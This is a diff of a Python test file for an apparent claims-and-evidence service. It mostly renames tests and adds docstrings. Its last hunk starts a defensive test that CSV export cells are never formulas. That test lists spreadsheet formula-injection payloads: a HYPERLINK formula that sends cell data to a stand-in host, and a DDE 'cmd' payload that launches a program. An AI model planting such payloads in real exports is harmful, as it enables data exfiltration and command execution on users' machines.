@@ -21,9 +21,10 @@ def _resolve(part: object, pointer: str) -> object:
     return part["id"] if isinstance(part, dict) else part
 
 
-def test_claims_are_what_resources_show_and_what_their_evidence_says_instead(
+def test_claims_are_what_resources_say(
     collections: dict[str, list[Json]], claims: list[Json]
 ) -> None:
+    """What is shown, and what the evidence says instead."""
     items = {one["id"]: one for items in collections.values() for one in items}
     for claim in claims:
         subject = items[claim["subject"]["id"]]
@@ -41,9 +42,10 @@ def test_claims_are_what_resources_show_and_what_their_evidence_says_instead(
             assert (item["id"], entry["source"]["id"], entry["link"]) in told
 
 
-def test_disputed_are_the_claims_on_a_field_for_which_a_source_has_another_value(
+def test_disputed_is_what_sources_differ_on(
     claims: list[Json],
 ) -> None:
+    """All claims on a field for which a source has another value."""
     others = {(one["subject"]["id"], one["pointer"]) for one in claims if not one["shown"]}
     assert others
     for claim in claims:
@@ -79,7 +81,7 @@ def claim_name(items: dict[str, Json], slug: str) -> str:
     return str(names.get("en", next(iter(names.values()))))
 
 
-def test_a_disagreement_has_one_key_and_both_sides(claims: list[Json]) -> None:
+def test_a_disagreement_has_one_key(claims: list[Json]) -> None:
     """All claims of a disagreement carry its key, which is an id and a pointer."""
     sides: dict[str, set[bool]] = {}
     for claim in claims:
@@ -91,7 +93,7 @@ def test_a_disagreement_has_one_key_and_both_sides(claims: list[Json]) -> None:
     assert all(side == {True, False} for side in sides.values()), sides
 
 
-def test_a_list_of_ids_that_a_source_has_instead(small: Path, serve_small: Serve) -> None:
+def test_a_list_of_ids_said_instead(small: Path, serve_small: Serve) -> None:
     """The names of what it refers to come along, and the key is that of the list."""
     (agreement,) = json.loads((small / "agreements.json").read_bytes())
     parties = agreement["parties"]
@@ -119,7 +121,8 @@ def test_claims_at_a_pointer_or_below(client: httpx.Client, claims: list[Json]) 
         assert [row["id"] for row in rows] == [one["id"] for one in expected]
 
 
-def test_ids_change_only_when_what_is_claimed_changes(small: Path) -> None:
+def test_ids_change_with_what_is_claimed(small: Path) -> None:
+    """And with nothing else."""
     before = load_dataset(small).claims.by_id
     (agreement,) = json.loads((small / "agreements.json").read_bytes())
     first, *others = reversed(agreement["evidence"])
@@ -140,9 +143,7 @@ def _rows(answer: httpx.Response) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
 
 
-def test_the_table_has_a_row_for_each_claim_with_all_that_it_says(
-    client: httpx.Client, claims: list[Json]
-) -> None:
+def test_the_table_has_all_of_each_claim(client: httpx.Client, claims: list[Json]) -> None:
     for row, claim in zip(_rows(client.get("/claims.csv")), claims, strict=True):
         for name in ("subject", "source", "speaker"):
             reference = claim.get(name, {"id": "", "name": ""})
@@ -157,7 +158,7 @@ def test_the_table_has_a_row_for_each_claim_with_all_that_it_says(
         assert claim.keys() - row.keys() <= {"type", "subject", "source", "speaker", "href"}
 
 
-def test_the_table_is_filtered_as_the_list_is(client: httpx.Client, claims: list[Json]) -> None:
+def test_the_table_has_the_filters(client: httpx.Client, claims: list[Json]) -> None:
     source = claims[0]["source"]["id"]
     rows = _rows(client.get("/claims.csv", params={"source": source, "disputed": "false"}))
     chosen = [one for one in claims if one["source"]["id"] == source and not one["disputed"]]
@@ -165,7 +166,8 @@ def test_the_table_is_filtered_as_the_list_is(client: httpx.Client, claims: list
     assert _rows(client.get("/claims.csv", params={"source": "nothing-has-this"})) == []
 
 
-def test_no_cell_is_a_formula_whatever_the_data_says(small: Path, serve_small: Serve) -> None:
+def test_no_cell_is_a_formula(small: Path, serve_small: Serve) -> None:
+    """Whatever the data says."""
     formulas = [
         '=HYPERLINK("http://x.example/?"&A1,"x")',
         "+1+cmd|' /C calc'!A0",
